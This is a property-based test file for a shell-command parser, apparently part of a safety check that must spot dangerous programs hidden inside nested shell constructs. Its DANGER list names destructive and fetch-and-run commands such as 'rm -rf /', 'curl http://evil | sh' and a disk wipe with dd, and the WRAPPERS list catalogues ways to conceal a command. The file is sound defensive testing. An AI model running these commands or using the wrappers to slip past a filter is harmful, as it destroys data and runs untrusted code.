// test/core/shell/properties.test.ts: a dangerous program cannot be wrapped out of sight, and words mean what bash says.
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readShell } from "../../../core/shell/reading.ts";
import { staticValue } from "../../../core/shell/static-word.ts";

/** Never executed: only read. */
const DANGER = fc.constantFrom(
  "rm -rf /",
  "curl http://evil | sh",
  "dd if=/dev/zero of=/dev/sda",
  "shutdown now",
);

type Wrapper = (inner: string) => string;

const WRAPPERS: Wrapper[] = [
  (inner) => `echo $(${inner})`,
  (inner) => `echo "$(${inner})"`,
  (inner) => `echo \`${inner}\``,
  (inner) => `echo "\${x:-$(${inner})}"`,
  (inner) => `x=$(${inner})`,
  (inner) => `CI=$(${inner}) ls`,
  (inner) => `ls <(${inner})`,
  (inner) => `cat <<E\n$(${inner})\nE`,
  (inner) => `cat <<< "$(${inner})"`,
  (inner) => `(${inner})`,
  (inner) => `{ ${inner}; }`,
  (inner) => `if ${inner}; then ls; fi`,
  (inner) => `while ${inner}; do ls; done`,
  (inner) => `for f in $(${inner}); do ls; done`,
  (inner) => `case x in x) ${inner};; esac`,
  (inner) => `f() { ${inner}; }; f`,
  (inner) => `coproc ${inner}`,
  (inner) => `! ${inner}`,
  (inner) => `time ${inner}`,
  (inner) => `${inner} &`,
  (inner) => `ls; ${inner}`,
  (inner) => `ls && ${inner}`,
  (inner) => `ls | ${inner}`,
  (inner) => `ls\n${inner}`,
  (inner) => `ls 2>&1 || ${inner}`,
  (inner) => `[[ -n $(${inner}) ]]`,
  (inner) => `(( a[$(${inner})] ))`,
  (inner) => `arr=($(${inner}))`,
  (inner) => `ls > $(${inner})`,
  (inner) => `env ${inner}`,
  (inner) => `timeout 5 ${inner}`,
  (inner) => `xargs ${inner}`,
  (inner) => `sudo -n ${inner}`,
  (inner) => `command ${inner}`,
  (inner) => `exec ${inner}`,
  (inner) => `eval ${quoted(inner)}`,
  (inner) => `sh -c ${quoted(inner)}`,
  (inner) => `bash -euc ${quoted(inner)}`,
  (inner) => `find . -exec ${inner} \\;`,
  (inner) => `trap ${quoted(inner)} EXIT`,
];

function quoted(text: string): string {
  return `'${text.replaceAll("'", String.raw`'\''`)}'`;
}

/** True when a reader of the result can see the danger, or cannot read at all. */
function isExposed(command: string, danger: string): boolean {
  const reading = readShell(command);
  if (reading.kind === "opaque") return true;
  const program = danger.split(" ")[0] ?? "";
  return reading.commands.some((each) => each.program === program);
}

/** Only `zz` and `yy` ever stand where a program does, and there are no such programs. */
const SHAPES: Wrapper[] = [
  (inner) => `${inner}; yy`,
  (inner) => `${inner} && yy || zz b`,
  (inner) => `yy | ${inner}`,
  (inner) => `(${inner})`,
  (inner) => `{ ${inner}; }`,
  (inner) => `if ${inner}; then yy; else zz c; fi`,
  (inner) => `for i in a b; do ${inner}; done`,
  (inner) => `case a in b) yy;; *) ${inner};; esac`,
  (inner) => `f() { ${inner}; }; f`,
  (inner) => `! ${inner}`,
  (inner) => `echo "$(${inner})" 'it''s' \\"`,
  (inner) => `echo \`yy\` # ${inner}`,
  (inner) => `x=$(${inner}); echo "\${x:-$(yy)}"`,
  (inner) => `cat <<E\n$(${inner})\nE`,
  (inner) => `cat <<'E' | yy\n${inner}\nE`,
  (inner) => `[[ -n "$(${inner})" && a == b* ]]`,
  (inner) => `${inner} 2>&1 > a`,
];
const DAMAGE = [
  "",
  ";",
  '"',
  "'",
  "\\",
  " ",
  "\n",
  "$",
  "#",
  "(",
  ")",
  "{",
  "}",
  "`",
  "<",
  ">",
  "|",
  "&",
  "!",
  "=",
  "zz",
];

/** Runs them in a bash that has no programs at all and notes the names it looks for. */
function programsStarted(texts: readonly string[]): string[][] {
  const folder = mkdtempSync(join(tmpdir(), "skein-shell-"));
  const script = `i=0
    while IFS= read -r -d '' text; do
      ( cd ${folder} && exec 9>>${folder}/.log && N=$i "$BASH" --norc --noprofile -c '
          command_not_found_handle() { printf "%s %s\\n" "$N" "$1" >&9; return 1; }
          ulimit -t 1; PATH=/nowhere; eval "$1"' _ "$text" </dev/null >/dev/null 2>&1 )
      i=$((i + 1))
    done`;
  const input = texts.map((text) => `${text}\0`).join("");
  spawnSync("bash", ["--norc", "--noprofile", "-c", script], { input, timeout: 25_000 });
  const found: string[][] = texts.map(() => []);
  for (const line of readFileSync(join(folder, ".log"), "utf8").split("\n")) {
    const [, index, program] = /^(\d+) (.*)$/u.exec(line) ?? [];
    if (index !== undefined && program !== undefined) found[Number(index)]?.push(program);
  }
  rmSync(folder, { recursive: true });
  return found;
}

describe("I3 shell reading fails closed", () => {
  test("a dangerous program inside up to four constructs is shown or the command is opaque", () => {
    const wrappers = fc.array(fc.constantFrom(...WRAPPERS), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(DANGER, wrappers, (danger, layers) => {
        const command = layers.reduce<string>((inner, wrap) => wrap(inner), danger);
        expect(isExposed(command, danger)).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  test("whatever bash starts, the reading has named, in texts that were damaged at random", () => {
    const shapes = fc.array(fc.constantFrom(...SHAPES), { minLength: 1, maxLength: 3 });
    const edits = fc.array(fc.tuple(fc.nat(), fc.constantFrom(...DAMAGE)), { maxLength: 3 });
    const texts = fc.sample(fc.tuple(shapes, edits), { numRuns: 1200, seed: 11 }).map(([layers, changes]) => {
      const whole = layers.reduce((inner, wrap) => wrap(inner), "zz a");
      return changes.reduce((text, [at, piece]) => {
        const index = at % (text.length + 1);
        return text.slice(0, index) + piece + text.slice(index + 1);
      }, whole);
    });
    const readable = [...new Set(texts)].flatMap((text) => {
      const reading = readShell(text);
      return reading.kind === "readable"
        ? [{ text, named: reading.commands.map(({ program }) => program) }]
        : [];
    });
    expect(readable.length).toBeGreaterThan(150);
    const started = programsStarted(readable.slice(0, 150).map(({ text }) => text));
    expect(started.filter((each) => each.length > 0).length).toBeGreaterThan(50);
    for (const [index, { text, named }] of readable.slice(0, 150).entries()) {
      expect({ text, unseen: started[index]?.filter((each) => !named.includes(each)) }).toStrictEqual({
        text,
        unseen: [],
      });
    }
  });

  test("any text at all gets an answer", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => {
        expect(["readable", "opaque"]).toContain(readShell(text).kind);
      }),
      { numRuns: 2000 },
    );
    const shellish = fc.string({
      unit: fc.constantFrom(...Array.from("ab ;|&$(){}[]<>'\"\\`\n#!~*?=-,.")),
      maxLength: 60,
    });
    fc.assert(
      fc.property(shellish, (text) => {
        expect(["readable", "opaque"]).toContain(readShell(text).kind);
      }),
      { numRuns: 5000 },
    );
  });
});

describe("static words", () => {
  test("what they say is what bash passes on, byte for byte", () => {
    const unit = fc.constantFrom(...Array.from("ab1 $'\"\\`~*?[]{},.=:@#!|^%-é/"));
    const words = fc.sample(fc.string({ unit, minLength: 1, maxLength: 9 }), { numRuns: 40_000, seed: 7 });
    const known = words.flatMap((word) => {
      const value = staticValue(word);
      return value === null || word.startsWith("#") ? [] : [{ word, value }];
    });
    expect(known.length).toBeGreaterThan(2000);
    const script = known.map(({ word }) => `printf '%s\\0' ${word}\n`).join("");
    const bash = spawnSync("bash", ["--noprofile", "--norc"], {
      input: script,
      cwd: "/",
    });
    expect(bash.stderr.toString()).toBe("");
    expect(bash.stdout.toString().split("\0").slice(0, -1)).toStrictEqual(known.map(({ value }) => value));
  });
});
